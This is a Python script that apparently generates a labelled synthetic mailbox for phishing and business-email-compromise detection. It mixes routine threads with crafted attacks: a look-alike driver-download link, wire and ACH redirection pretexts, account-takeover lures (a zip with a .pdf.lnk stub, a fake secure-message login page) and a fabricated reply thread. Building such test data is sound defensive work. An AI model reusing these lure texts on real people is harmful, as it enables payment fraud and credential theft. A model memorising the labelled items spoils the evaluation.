drv = "https://support.brother.com/g/b/downloadtop.aspx?c=us&lang=en&prod=ads4700w_us_eu_as"
t12.add(carlos, f"Hi Dana,\n\nYou can do it, your account has local admin on that PC. Get the \"Full Driver & Software Package\" from Brother:\n{drv}\n\n"
        "Pick Windows 11 64-bit. If it asks about the network scan setup, choose USB for now; I'll set up scan-to-folder next visit.",
        at(2025, 6, 2, 10, 4, NY), G, sc="G23", desc="Carlos (Thunderbird on own Postfix) replies with the vendor's download link")
c_real = t12.last
t12.add(me, "Installed and working over USB. Thanks!", at(2025, 6, 2, 14, 30, NY))
t12.add(carlos, "Great. I'll be in Thursday the 12th for scan-to-folder.", at(2025, 6, 2, 15, 2, NY))
evil_drv = f"https://brother-drivers-support.example/download/ADS4700W_Full_Package_{R.randint(1000, 9999)}.zip"
t_q = c_real["t"].astimezone(NY)
tampered = c_real["own"].replace(drv, evil_drv)
a13_text = ("Hi Dana,\n\nBefore Thursday, please re-run the full driver package from the link below - Brother pulled the version from June 2 "
            "because it breaks scan-to-folder. Same steps as before.")
a13_plain = a13_text + carlos.sig + f"\n\nOn {t_q.month}/{t_q.day}/{t_q:%y} {t_q:%-I:%M %p}, Carlos Mendez wrote:\n" + gt(tampered)
emit(carlos, "tb", at(2025, 6, 10, 6, 48, NY), [(me.name, me.email)], None, "Re: " + t12.subj, t12.refs, a13_plain, html=None,
     label=HJ("server-hijack"), sc="A13",
     desc="server hijack: same Postfix/Thunderbird path; the quoted history is real except Carlos's driver link, which now points to a look-alike download site")

# ================================================================ T13 Mendez IT: remote session, ScreenConnect announced
t13 = Thread(carlos, "Remote session for the QuickBooks upgrade")
t13.add(carlos, "Hi Dana,\n\nFor the QuickBooks 2025 upgrade I'd like to work remotely Thursday after 5 so nobody's locked out. We switched our remote "
        "tool to ConnectWise ScreenConnect - our instance is mendezit.screenconnect.com. I'll send a session link on Thursday; you just "
        "click it and approve the prompt on the server.", at(2025, 8, 4, 11, 20, NY))
t13.add(me, "Thursday after 5 is fine. I'll leave the server logged in at the console.", at(2025, 8, 4, 13, 5, NY))
sc_url = f"https://mendezit.screenconnect.com/Host#Access/All%20Machines//{ruuid()}/Join"
t13.add(carlos, f"Hi Dana,\n\nHere's the session link for tonight:\n{sc_url}\n\nI'll start around 5:30 and text you when I'm done.",
        at(2025, 8, 7, 16, 12, NY), GH, sc="G24", desc="ScreenConnect session link on the instance domain Carlos announced earlier in the thread text")
t13.add(me, "Approved the prompt, you should be in.", at(2025, 8, 7, 17, 36, NY))
t13.add(carlos, "All done - QuickBooks 2025 is installed and the company file converted. Backup of the old file is in D:\\QB\\pre-upgrade.",
        at(2025, 8, 7, 21, 5, NY), G, sc="G24b", desc="Carlos confirms at 9 pm")

# ================================================================ T14 Parkside Payroll (Zoho, Chicago): 1099-NEC corrections, revived after 9 months
t14 = Thread(jenna, "2024 1099-NEC corrections - Brightwater")
t14.add(me, "Hi Jenna,\n\nTwo of our 2024 1099-NECs need corrections: Sam Ortiz's amount should be $18,240 (not $18,420), and Linda Marsh's "
        "TIN was entered with a transposed digit. Can Parkside file the corrected forms?", at(2025, 4, 14, 10, 20, NY))
t14.add(jenna, "Hi Dana,\n\nYes, we can. Corrected 1099s are filed electronically within 5 business days. I'll send you the copies once they're accepted.",
        at(2025, 4, 14, 12, 2, CHI), G, sc="G25", desc="Jenna (Zoho Mail) replies")
t14.add(jenna, "Both corrections were accepted by the IRS today. Copies attached for your files.", at(2025, 4, 21, 15, 40, CHI),
        atts=[("1099NEC_2024_corrected_Brightwater.pdf", pdf(["Form 1099-NEC (CORRECTED) 2024", "Payer: Brightwater Billing & Accounting, LLC"],
                                                            producer="Parkside Payroll / iText 7"), "application/pdf")])
t14.add(me, "Received, thank you Jenna.", at(2025, 4, 22, 8, 30, NY))
t14.add(jenna, "Hi Dana,\n\nHappy new year! Picking this old thread back up since it has the contractor details. Your 2025 1099-NEC drafts are "
        "attached - five contractors this year. Please review the amounts by January 23 so we can file before the January 31 deadline.",
        at(2026, 1, 12, 9, 15, CHI), GH,
        atts=[("1099NEC_2025_drafts_Brightwater.pdf", pdf(["Form 1099-NEC 2025 - DRAFT", "Payer: Brightwater Billing & Accounting, LLC", "Recipients: 5"],
                                                         producer="Parkside Payroll / iText 7", when="20260112091000", zone="-06'00'"), "application/pdf")],
        sc="G26", desc="thread dormant for nearly 9 months revived by Jenna in January with year-end tax PDF")
t14.add(me, "Hi Jenna, happy new year! Amounts match our AP ledger. Approved for filing.", at(2026, 1, 13, 10, 5, NY))

# ================================================================ T15 Parkside: new-hire direct deposit; A11 display name embeds real address
t15 = Thread(jenna, "New hire setup - Maya Torres")
t15.add(me, "Hi Jenna,\n\nWe have a new billing specialist, Maya Torres, starting September 15. Her W-4, Ohio IT 4 and direct deposit form are in "
        "the secure upload folder. First pay date would be September 26.", at(2025, 9, 8, 9, 30, NY))
t15.add(jenna, "Got them, thanks Dana. Maya's set up; the direct deposit goes through a prenote first, so her first check will be live on the 26th.",
        at(2025, 9, 8, 13, 12, CHI), G, sc="G27", desc="Jenna replies")
t15.add(me, "Great, thank you.", at(2025, 9, 8, 14, 0, NY))
sp_j = Pt("Jenna Park jenna@parksidepayroll.example", "jenna.parksidepayroll@outlook.com", "outlookcom", "outlookcom", CHI, "", host="SJ0PR19MB6284.namprd19")
t15.add(sp_j, "Hi Dana,\n\nHeads up before the September 26 run: Parkside has moved payroll funding to a new bank, and the debit for your "
        "payroll will come from our new account at Cross River this cycle. To avoid a failed debit, we need your authorization on the updated ACH "
        "agreement today, and we will need to pull the funds by wire instead of ACH just for this run - $48,912.36 total, including Maya's first "
        "check. Wire details are on the form I will send once you confirm you are the right contact for this. Please don't call the office "
        "line, it's being forwarded during the transition.\n\nThanks,\nJenna Park\nClient Services Lead | Parkside Payroll Services",
        at(2025, 9, 15, 11, 41, CHI), HJ("display-name-spoof"), sig=False, client="outlookcom",
        sc="A11", desc="display-name spoof whose name embeds the real address ('Jenna Park jenna@parksidepayroll.example' <...@outlook.com>), payroll funding by wire")

# ================================================================ T16 Reilly Clinical Coding (Fastmail, Sydney)
t16 = Thread(shannon, "Coding audit - sample of 40 claims")
t16.add(me, "Hi Shannon,\n\nAs agreed, here's the list of 40 claims from Cedar Ridge for the annual E/M coding audit. Notes are in the shared "
        "folder. Target is the end of June.", at(2025, 6, 9, 16, 10, NY))
t16.add(shannon, "Hi Dana,\n\nReceived, thanks. I'll start tomorrow (well, today, my time). First impressions: a fair few 99214s with documentation "
        "that looks more like 99213 to me, but let me go through them properly.", at(2025, 6, 10, 8, 5, SYD), G,
        sc="G28", desc="Shannon (Fastmail, Sydney) replies next morning her time")
t16.add(me, "Sounds good. Please flag any with modifier 25 separately, Priya is keen to see those.", at(2025, 6, 10, 9, 30, NY))
t16.add(shannon, "Hi Dana,\n\nAudit summary attached. 31 of 40 supported as billed, 7 overcoded (mostly 99214 to 99213), 2 undercoded. "
        "Modifier 25 flags are on a separate tab as requested. I've organised the findings by provider, which I think is more useful than by payer. "
        "Happy to run through it on a call on Monday morning your time.", at(2025, 6, 21, 8, 40, SYD), GH,
        atts=[("CRFM_EM_Audit_2025_summary.pdf", pdf(["Reilly Clinical Coding - E/M audit", "Cedar Ridge Family Medicine", "Supported: 31/40"],
                                                    producer="LibreOffice 24.2", zone="+10'00'"), "application/pdf")],
        sc="G29", desc="Shannon's audit summary sent Saturday morning Sydney = Friday evening Ohio, AU spelling, PDF")
t16.add(me, "Thank you Shannon, very thorough. Monday 8 am Eastern works.", at(2025, 6, 23, 7, 50, NY))

# ================================================================ T17 Ray Dunn landlord (Android Gmail); A06 ATO via Gmail web, zip with .lnk
t17 = Thread(ray, "Suite 210 HVAC and lease renewal")
t17.add(me, "Hi Ray,\n\nThe AC in suite 210 is blowing warm air again, second time this month. Could you send someone before Friday? It's 84 in the back office.",
        at(2025, 7, 14, 9, 5, NY))
t17.add(ray, "Hi Dana sorry about that. Calling Buckeye Heating now, they'll probably come tomorrow morning. Will let you know\n\nRay",
        at(2025, 7, 14, 9, 47, NY), G, sc="G30", desc="Ray (Android Gmail app, short mobile reply) answers")
t17.add(ray, "Tech found a bad capacitor, replaced. Should be cold now. No charge to you, it's covered under the lease", at(2025, 7, 15, 13, 20, NY))
t17.add(me, "It's working, thank you Ray! Also, Kevin asked me to raise the lease renewal - ours ends December 31. Could you send the renewal terms when ready?",
        at(2025, 7, 15, 14, 2, NY))
t17.add(ray, "Sure will have it to you in the fall, probably 3% bump like last time", at(2025, 7, 15, 19, 33, NY))
lnk = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + rbytes(400)
a6_zip = zipb([("Suite210_Lease_Renewal_2026.pdf.lnk", lnk), ("Floorplan_suite210.jpg", jpg(1800))], when=(2025, 11, 4, 22, 10, 0))
t17.add(ray, "Hi Dana,\n\nAs promised, the renewal package for suite 210 is attached. Rent change and new term are on page 2, please open and review "
        "with Kevin and get back to me this week.\n\nRay Dunn", at(2025, 11, 5, 3, 26, NY), HJ("account-takeover"), client="gmail",
        atts=[("Suite210_Renewal_2026.zip", a6_zip, "application/zip")],
        sc="A06", desc="ATO of Ray's Gmail: sent from Gmail web (he always uses the Android app), 3:26 am, zip with a .pdf.lnk and a decoy image")

# ================================================================ T18 Brooks Benefit Advisors (Apple Mail + iPhone); A08 secure-message lure
t18 = Thread(natalie, "2026 group health renewal - census needed")
t18.add(natalie, "Hi Dana,\n\nRenewal season already! Anthem's preliminary renewal for Brightwater is +8.7%. To shop it properly I need an updated "
        "census - name, DOB, ZIP, coverage tier - for everyone enrolled as of October 1. The template is attached.", at(2025, 10, 1, 10, 15, NY),
        atts=[("Census_Template_2026.xlsx", xlsx([["Employee", "DOB", "ZIP", "Tier"]]), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
t18.add(me, "Hi Natalie,\n\n+8.7%, ouch. Census will come through the secure upload link you set up last year, not by email. Should have it by Tuesday.",
        at(2025, 10, 1, 11, 40, NY))
t18.add(natalie, "Perfect, the portal is the right place for it. I'll run quotes with Anthem, Medical Mutual and UHC once it's in.",
        at(2025, 10, 1, 12, 2, NY), G, sc="G31", desc="Natalie (Apple Mail, Google Workspace backend) replies")
t18.add(me, "Census uploaded this morning - 23 employees, 14 with dependents.", at(2025, 10, 7, 9, 12, NY))
t18.add(natalie, "Got it, thank you! Just got back from a client dinner. Quotes Thursday, fingers crossed Medical Mutual comes in under 5%.\n\nSent from my iPhone",
        at(2025, 10, 7, 23, 40, NY), GH, client="iphone", sig=False, sc="G32", desc="Natalie replies from her iPhone at 11:40 pm, no signature, 'Sent from my iPhone'")
t18.add(natalie, "Dana,\n\nQuotes are in - Medical Mutual came in at +4.1% with the same network. Comparison attached; let's talk with Kevin next week.",
        at(2025, 10, 9, 15, 5, NY),
        atts=[("Brightwater_2026_Renewal_Comparison.pdf", pdf(["Brooks Benefit Advisors", "2026 renewal comparison", "Medical Mutual +4.1%"],
                                                             producer="macOS Version 15.3 (Build 24D60) Quartz PDFContext"), "application/pdf")])
t18.add(me, "That's a relief. Kevin can do Tuesday at 2.", at(2025, 10, 9, 15, 50, NY))
a8_url = f"https://brooks-secure-share.pages.dev/msg/{alnum(20)}?r={me.email.replace('@', '%40')}"
a8_html = ('<div dir="ltr"><div>Hi Dana,</div><div><br></div><div>I\'ve shared the final 2026 benefits election packet and signature pages through our '
           'encrypted message center, since it includes employee information.</div><div><br></div>'
           '<table cellpadding="0" cellspacing="0"><tr><td style="background:#0b5cab;border-radius:4px;padding:12px 26px">'
           f'<a href="{H.escape(a8_url)}" style="color:#ffffff;font-family:Arial;font-size:15px;text-decoration:none">Open Secure Message</a></td></tr></table>'
           '<div><br></div><div>The message will expire in 48 hours. Please sign in with your Microsoft 365 account to verify your identity.</div>'
           '<div><br></div><div>Natalie Brooks<br>Brooks Benefit Advisors</div></div>')
a8_plain = ("Hi Dana,\n\nI've shared the final 2026 benefits election packet and signature pages through our encrypted message center, since it "
            f"includes employee information.\n\nOpen Secure Message <{a8_url}>\n\nThe message will expire in 48 hours. Please sign in with your "
            "Microsoft 365 account to verify your identity.\n\nNatalie Brooks\nBrooks Benefit Advisors")
t18.add(natalie, a8_plain, at(2025, 11, 18, 14, 2, NY), HJ("account-takeover"), client="gws", sig=False, quote=False, html=a8_html,
        sc="A08", desc="ATO of Natalie's Workspace account: 'secure message' lure sent from Gmail web (she uses Apple Mail/iPhone), no quote, pages.dev credential page")

# ================================================================ T19 Sam Ortiz (Gmail web, LA): transcription invoices; A07 PDF link button
t19 = Thread(sam, "Transcription invoices - April")
t19.add(sam, "Hi Dana,\n\nMy April invoice is attached - 1,216 lines for Lakeshore and 388 for Cedar Ridge, same rate as before.",
        at(2025, 5, 1, 9, 40, LA), atts=[("Ortiz_Invoice_2025-04.pdf", pdf(["Ortiz Medical Transcription", "Invoice 2025-04", "1,604 lines x $0.11 = $176.44"],
                                                                       producer="Google Docs Renderer"), "application/pdf")])
t19.add(me, "Thanks Sam. Approved - it'll go out on the May 9 check run.", at(2025, 5, 1, 14, 5, NY))
t19.add(sam, "Great, thank you! By the way, I'm switching to Zelle for Business next quarter, I'll send the details formally then.",
        at(2025, 5, 1, 11, 30, LA), G, sc="G33", desc="Sam (Gmail web) replies")
t19.add(me, "No problem - just send it on letterhead and I'll verify by phone before changing anything.", at(2025, 5, 1, 15, 2, NY))
btn_pdf = pdf([], uris=[f"https://pub-{hx(32)}.r2.dev/ortiz/INV-2025-05.html"], producer="Skia/PDF m124", when="20250527221500", zone="", rects="View Document")
t19.add(sam, "Hi Dana,\n\nMay invoice attached. Let me know if it doesn't open, it's a secured PDF this time.\n\nSam",
        at(2025, 5, 28, 3, 11, LA), HJ("account-takeover"), sig=False,
        atts=[("Ortiz_Invoice_2025-05.pdf", btn_pdf, "application/pdf")],
        sc="A07", desc="ATO of Sam's Gmail: PDF whose only content is a 'View Document' button linking to r2.dev, sent at 3 am")

# ================================================================ T20 Summit Medical Supply billing@ shared mailbox; portal move; A09 lookalike
t20 = Thread(summit, "Summit invoice 88213 - credit memo request")
t20.add(me, "Hello,\n\nInvoice 88213 (Lakeshore Pediatric, PO 4471) bills 12 cases of nitrile gloves, but only 10 were delivered per the signed "
        "packing slip. Could you issue a credit memo for the 2 cases ($139.80)?", at(2025, 8, 4, 10, 5, NY),
        atts=[("PackingSlip_PO4471_signed.pdf", pdf(["Summit Medical Supply - Packing slip", "PO 4471", "Received: 10 cs nitrile gloves M"],
                                                   producer="RICOH IM C3000"), "application/pdf")])
t20.add(summit, "Hi Dana,\n\nThanks for the packing slip. I've requested the credit memo from our warehouse team; it usually takes 2-3 business days.\n\n"
        "Keisha Moore\nBilling Specialist | Summit Medical Supply\n612-555-0164", at(2025, 8, 4, 13, 30, CHI), G,
        sc="G34", desc="shared mailbox billing@ answered by Keisha")
t20.add(me, "Thank you Keisha.", at(2025, 8, 4, 14, 40, NY))
t20.add(summit, "Hello Dana,\n\nFollowing up for Keisha, who's out this week. Credit memo CM-11902 for $139.80 has been applied to invoice 88213, "
        "leaving a balance of $699.00.\n\nDan Fischer\nAccounts Receivable | Summit Medical Supply\n612-555-0171", at(2025, 8, 7, 9, 52, CHI), GH,
        sc="G35", desc="same shared mailbox answered by a different person (Dan) with his own signature")
t20.add(me, "Perfect, thanks Dan. We'll pay the $699.00 balance on the next run.", at(2025, 8, 7, 11, 15, NY))
t20.add(summit, "Hi Dana,\n\nOne more note while this thread is open: starting September 1, Summit invoices will be delivered through our new "
        "Billtrust portal (summitmedical.billtrust.com) instead of PDF attachments. You'll get an email from billing@ with a link for each invoice; "
        "payment instructions are unchanged.\n\nLorena Vega\nBilling Manager | Summit Medical Supply\n612-555-0160", at(2025, 8, 20, 10, 30, CHI),
        G, sc="G36a", desc="Summit announces the move to the Billtrust invoice portal in the thread")
t20_ann = t20.last
t20.add(me, "Thanks for the heads-up, Lorena. I'll let our AP team know.", at(2025, 8, 20, 11, 3, NY))
bt = f"https://summitmedical.billtrust.com/invoice/view?id={alnum(24)}"
t20.add(summit, f"Hi Dana,\n\nYour first invoice through the portal is ready - invoice 90117 for August shipments:\n{bt}\n\nKeisha Moore\n"
        "Billing Specialist | Summit Medical Supply\n612-555-0164", at(2025, 9, 3, 8, 40, CHI), GH,
        sc="G36", desc="invoice link on Summit's new Billtrust portal, move announced earlier in the thread")
t20.add(me, "Worked fine, thank you Keisha.", at(2025, 9, 3, 10, 2, NY))
look = Pt("Summit Medical Supply Billing", "billing@summit-medsupply.example", "o365", "atk-lookalike", CHI, "", host="MW4PR10MB5871.namprd10")  # attacker's own M365 tenant
a9_text = ("Hi Dana,\n\nI hope you're doing well. Following up on Lorena's note about our billing changes: as part of the same project, Summit has "
           "moved its receivables to a new lockbox account with our bank, and the old account will stop accepting ACH credits at the end of this month. "
           "Payments sent to the old account after that date will be returned, which can take up to 10 business days and would put open invoices past "
           "terms.\n\nPlease update our vendor record before your next payment run. The updated remittance letter on our letterhead is attached, "
           "signed by our Controller. Our remittance team (copied) will confirm receipt of your next payment, and invoice 90117 ($2,418.60) can go to the "
           "new account already.\n\nIf your process requires a verbal confirmation, please reply with a good time and our controller will call you - "
           "our main line is being migrated to a new phone system this week.\n\nThank you for your help,\n\nKeisha Moore\nBilling Specialist | Summit Medical Supply")
t20.add(look, a9_text, at(2025, 9, 9, 11, 22, CHI), HJ("lookalike-domain"), sig=False, cc=[("Remittance Team", "remittance@summit-medsupply.example")],
        extra=[("Reply-To", "Keisha Moore <keisha.moore@summit-medsupply.example>")],
        atts=[("Summit_Remittance_Update_Sept2025.pdf", pdf(["SUMMIT MEDICAL SUPPLY, INC.", "Updated remittance instructions - effective immediately",
                                                            "Bank: Evolve Bank & Trust", "ABA 084106768  Acct 90211837745", "Controller: R. Haugen"],
                                                           producer="Microsoft Word"), "application/pdf")],
        sc="A09", desc="look-alike domain summit-medsupply.example (added hyphen), quotes the real thread, new Cc and Reply-To, long ACH/remittance change text")

# ================================================================ T21 Veritas RCM (new partner, Google Workspace): Zoom link
t21 = Thread(aaron, "Intro - Veritas RCM eligibility integration")
t21.add(me, "Hi Aaron,\n\nKevin Lambert passed along your name - Lakeshore is moving its eligibility checks to Veritas in Q4 and we handle their billing. "
        "Could we set up a short call to understand how the 270/271 results will reach us?", at(2025, 9, 22, 10, 15, NY), cc=[(kevin.name, kevin.email)])
zoom = f"https://veritasrcm.zoom.us/j/{R.randint(81000000000, 89999999999)}?pwd={alnum(32)}.1"
t21.add(aaron, f"Hi Dana (and Kevin),\n\nGreat to e-meet you. Thursday at 1pm Eastern works on my side. Here's the Zoom:\n\n{zoom}\n"
        f"Meeting ID: {R.randint(810, 899)} {R.randint(1000, 9999)} {R.randint(1000, 9999)}\nPasscode: {R.randint(100000, 999999)}\n\n"
        "I'll bring our integration lead so we can cover the 271 file layout and the SFTP drop.", at(2025, 9, 22, 9, 3, LA), GH,
        cc=[(kevin.name, kevin.email)], sc="G37", desc="new partner (first reply ever) sends a Zoom meeting link on his company's zoom.us subdomain")
t21.add(me, "Thursday at 1 works, see you then.", at(2025, 9, 22, 12, 30, NY), cc=[(kevin.name, kevin.email)])

# ================================================================ T22 Clearpath Clearinghouse (Zendesk)
zd = Pt("Marisol (Clearpath Support)", "support@clearpathclaims.example", "zendesk", "zendesk", CHI, "")
t22 = Thread(zd, "835 files missing for Lakeshore Pediatric - week of 6/9")
t22.add(me, "Hello,\n\nOur SFTP folder for Lakeshore Pediatric Group (submitter ID LPG0412) has no 835 files since June 9, though the payers show "
        "payments issued. Could you check the ERA routing?", at(2025, 6, 16, 9, 20, NY), to=[("Clearpath Support", zd.email)])
def zd_body(agent, text, ticket="48213"):
    return (f"##- Please type your reply above this line -##\n\nYour request ({ticket}) has been updated. To add additional comments, reply to this email.\n"
            f"----------------------------------------------\n\n{agent} (Clearpath Support)\n\n{R.choice(['Jun', 'Jun'])} {R.randint(16, 17)}, 2025, {R.randint(10, 12)}:{R.randint(10, 59)} CDT\n\n{text}\n\n"
            "----------------------------------------------\n\nThis email is a service from Clearpath Support. Delivered by Zendesk")
zd_subj = "[Clearpath Support] Re: 835 files missing for Lakeshore Pediatric - week of 6/9"
m_zd1 = emit(zd, "zendesk", at(2025, 6, 16, 11, 48, CHI), [(me.name, me.email)], None, zd_subj, list(t22.refs),
             zd_body("Marisol", "Hi Dana,\n\nThanks for reaching out. The 835s for LPG0412 were being routed to an old mailbox after a payer "
                     "enrollment update on June 6. I've corrected the routing and re-queued the files from June 9 onward; they should land in your SFTP "
                     "folder within 2 hours."), html="auto",
             mid=f"<{alnum(8).upper()}{R.randint(10000, 99999)}_{hx(8)}_sprut@zendesk.com>",
             extra=[("Reply-To", "Clearpath Support <support+id48213@clearpathclaims.zendesk.com>"), ("X-Mailer", "Zendesk Mailer"),
                    ("X-Zendesk-From-Account-Id", hx(7)), ("X-Zendesk-Email-Id", alnum(26).upper()), ("Auto-Submitted", "auto-generated")],
             label=GH, sc="G38", desc="Zendesk ticket reply with [Clearpath Support] prefix, Reply-To support+id48213@...zendesk.com, In-Reply-To Dana's message")
emit(zd, "zendesk", at(2025, 6, 17, 10, 5, CHI), [(me.name, me.email)], None, "[Clearpath Support] Re: 835 files missing for Lakeshore Pediatric - week of 6/9 [#48213]",
     [], zd_body("Devon", "Hi Dana,\n\nFollowing up: we see all 14 re-queued 835 files as picked up by your SFTP client this morning. "
                 "I'll set this ticket to solved; replying to this email reopens it."), html="auto",
     mid=f"<{alnum(8).upper()}{R.randint(10000, 99999)}_{hx(8)}_sprut@zendesk.com>",
     extra=[("Reply-To", "Clearpath Support <support+id48213@clearpathclaims.zendesk.com>"), ("X-Mailer", "Zendesk Mailer"),
            ("X-Zendesk-From-Account-Id", hx(7)), ("X-Zendesk-Email-Id", alnum(26).upper()), ("Auto-Submitted", "auto-generated")],
     label=GO, sc="G39", desc="Zendesk ticket update '[#48213]' from a different agent, no In-Reply-To/References")

# ================================================================ T23 Google Group (Central Ohio AP Roundtable)
grp = "co-ap-roundtable@googlegroups.com"
t23_first = emit(me, "o365", at(2025, 10, 27, 9, 40, NY), [("Central Ohio AP Roundtable", grp)], None, "Positive pay - which banks handle payee-name matching?",
                 [], "Hi all,\n\nWe're moving our operating account and want positive pay with payee-name verification, not just check number and amount. "
                 "Which local banks have you had good experiences with?" + SIG, topic="Positive pay - which banks handle payee-name matching?")
joan = Pt("'Joan Pruitt' via Central Ohio AP Roundtable", grp, "o365", "ggroup", NY, "", host="CY8PR14MB7012.namprd14")
joan_text = ("Hi Dana,\n\nWe've used Huntington's positive pay with payee match for three years - it catches the washed-check cases that "
             "amount-only matching misses. Their exception window is 10:30 am, so someone has to watch it every morning. Park National also offers "
             "it but only for ACH blocks, last I checked.\n\nJoan Pruitt\nAP Manager, Olentangy Orthopedics")
joan_mid = f"<CY8PR14MB7012{HX(16)}@CY8PR14MB7012.namprd14.prod.outlook.com>"
emit(joan, "o365", at(2025, 10, 27, 11, 5, NY), [("Central Ohio AP Roundtable", grp)], None, "RE: Positive pay - which banks handle payee-name matching?",
     [t23_first], joan_text + "\n\nFrom: co-ap-roundtable@googlegroups.com <co-ap-roundtable@googlegroups.com> On Behalf Of Dana Whitfield\nSent: Monday, "
     "October 27, 2025 9:40 AM\nTo: Central Ohio AP Roundtable <co-ap-roundtable@googlegroups.com>\nSubject: Positive pay - which banks handle payee-name matching?\n\n"
     "Hi all,\n\nWe're moving our operating account and want positive pay with payee-name verification...", text=joan_text, mid=joan_mid,
     frm=f"'Joan Pruitt' via Central Ohio AP Roundtable <{grp}>", env="co-ap-roundtable+bncBAABB" + alnum(20) + "@googlegroups.com",
     extra=[("Reply-To", f"Joan Pruitt <joan.pruitt@olentangyortho.example>"), ("X-Original-Sender", "joan.pruitt@olentangyortho.example"),
            ("X-Original-Authentication-Results", "gmr-mx.google.com;       dkim=pass header.i=@olentangyortho.example;       spf=pass"),
            ("Precedence", "list"), ("Mailing-list", f"list {grp}; contact co-ap-roundtable+owners@googlegroups.com"),
            ("List-ID", "<co-ap-roundtable.googlegroups.com>"), ("X-Spam-Checked-In-Group", grp), ("X-Google-Group-Id", str(R.randint(10**11, 10**12))),
            ("List-Post", "<https://groups.google.com/group/co-ap-roundtable/post>, <mailto:co-ap-roundtable@googlegroups.com>"),
            ("List-Help", "<https://groups.google.com/support/>, <mailto:co-ap-roundtable+help@googlegroups.com>"),
            ("List-Unsubscribe", "<mailto:googlegroups-manage+" + str(R.randint(10**11, 10**12)) + "+unsubscribe@googlegroups.com>,\n <https://groups.google.com/group/co-ap-roundtable/subscribe>")],
     label=GH, sc="G40", desc="reply from a group member delivered through the Google Group (From rewritten 'via', googlegroups.com DKIM, Reply-To the member)")

# ================================================================ T24 Brightwater internal: payment run approvals (Kevin, Outlook M365)
t24 = Thread(kevin, "AP payment run - week of May 12")
t24.add(me, "Hi Kevin,\n\nThis week's run is 34 vendors, $61,284.17 total. Flagged for your review: the NMI reading-fee invoice (voided duplicate "
        "removed) and Sam Ortiz's April invoice. Register attached.", at(2025, 5, 12, 9, 5, NY),
        atts=[("AP_Run_2025-05-12.pdf", pdf(["Brightwater AP check run 2025-05-12", "34 vendors", "$61,284.17"], producer="QuickBooks Desktop"), "application/pdf")])
t24.add(kevin, "Looks right. Approved - go ahead and release after lunch.", at(2025, 5, 12, 10, 44, NY), G, sc="G41", desc="Kevin (internal, Outlook M365) approves")
t24.add(me, "Released. Positive pay file uploaded to the bank.", at(2025, 5, 12, 13, 20, NY))
t24.add(kevin, "Thanks Dana. Can you send me the vendor 1099 status list before Friday? Jenna asked about two new contractors.",
        at(2025, 5, 13, 8, 12, NY), G, sc="G42", desc="Kevin follow-up")
t24.add(me, "Attached - both new contractors have W-9s on file.", at(2025, 5, 13, 9, 3, NY),
        atts=[("Vendor_1099_status_2025.xlsx", xlsx([["Vendor", "W-9", "1099"], ["Ortiz Medical Transcription", "yes", "NEC"]]),
               "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])

# ================================================================ T26 fake thread: stranger, "RE:", fabricated quote of Dana
fk = Pt("Brenda Caldwell", "bcaldwell@harborline-staffing.example", "o365", "atk-fake", CHI, "", host="PH7PR13MB6102.namprd13")
fk_url = f"https://harborline-staffing-my.sharepoint.example/:b:/p/bcaldwell/{alnum(24)}"
fk_text = (f"Hi Dana,\n\nCircling back on this - we still show the two placement invoices below as open on our side. I've put the statement "
           f"and the timesheets you asked for in one folder:\n\n{fk_url}\n\nCan you confirm a payment date once you've matched them?\n\n"
           "Brenda Caldwell\nAccounts Receivable | Harborline Staffing Group\n(216) 555-0193")
fk_quote = ("\n\nFrom: Dana Whitfield <dana.whitfield@brightwaterba.example>\nSent: Tuesday, November 25, 2025 10:14 AM\nTo: Brenda Caldwell "
            "<bcaldwell@harborline-staffing.example>\nSubject: RE: Past due - Harborline invoices HSG-22817 / HSG-22905\n\nHi Brenda,\n\n"
            "Thanks for following up. I can't find these in our AP system - could you send the statement and the signed timesheets so I can match "
            "them to a PO?\n\nDana Whitfield\nOffice Manager | Accounts Payable\nBrightwater Billing & Accounting, LLC")
emit(fk, "o365", at(2025, 12, 9, 14, 37, CHI), [(me.name, me.email)], None, "RE: Past due - Harborline invoices HSG-22817 / HSG-22905", [],
     fk_text + fk_quote, text=fk_text, qrows=[("From", "Dana Whitfield <dana.whitfield@brightwaterba.example>"), ("Sent", "Tuesday, November 25, 2025 10:14 AM"),
                                               ("To", "Brenda Caldwell <bcaldwell@harborline-staffing.example>"),
                                               ("Subject", "RE: Past due - Harborline invoices HSG-22817 / HSG-22905")],
     qbody=fk_quote.split("\n\n", 3)[3], label=HJ("fake-thread"), sc="A12",
     desc="fake thread: stranger with 'RE:' subject and a fabricated Outlook quote of Dana, no In-Reply-To, link to a SharePoint look-alike")

# ================================================================ extra context (unlabelled) so threads read naturally
t21.add(aaron, "Thanks for the time today, Dana. As discussed, the 271 responses will be dropped to your SFTP folder nightly at 2am Pacific; "
        "our integration lead will send the companion guide separately.", at(2025, 9, 25, 11, 20, LA), cc=[(kevin.name, kevin.email)])
t21.add(me, "Thank you Aaron, that covers it. Looking forward to the guide.", at(2025, 9, 25, 15, 2, NY), cc=[(kevin.name, kevin.email)])
t16.add(shannon, "Lovely, talk then. I'll have the provider-level slides ready.", at(2025, 6, 24, 7, 15, SYD))
t19.add(sam, "Thanks Dana, will do.", at(2025, 5, 1, 12, 40, LA))
t10.add(me, "Hi Doug,\n\nThe corrected invoice from accounts@ arrived, thanks. All set on our side for March.", at(2025, 3, 18, 10, 12, NY))
t12.add(me, "Thanks Carlos, see you on the 12th.", at(2025, 6, 2, 15, 30, NY))

# ================================================================ write, in arrival order
pending.sort(key=lambda x: x[0])
labels = ["mailbox\tmessage_id\tlabel\tkind"]
scen = ["file\tscenario\tdescription"]
for i, (t, folder, raw, lab, sc, desc, m) in enumerate(pending, 1):
    path = f"mailboxes/{MB}/{folder}/{i}.eml"
    with open(f"{root}/{path}", "w", encoding="utf-8", newline="") as f: f.write(raw)
    if lab:
        labels.append(f"{MB}\t{m}\t{lab[0]}\t{lab[1]}")
        scen.append(f"{path}\t{sc}\t{desc}")
open(f"{root}/labels.tsv", "w").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w").write("\n".join(scen) + "\n")
print(f"{len(pending)} messages, {len(labels) - 1} labelled ({sum(1 for l in labels if chr(9) + 'hijack' + chr(9) in l)} hijack) -> {root}")
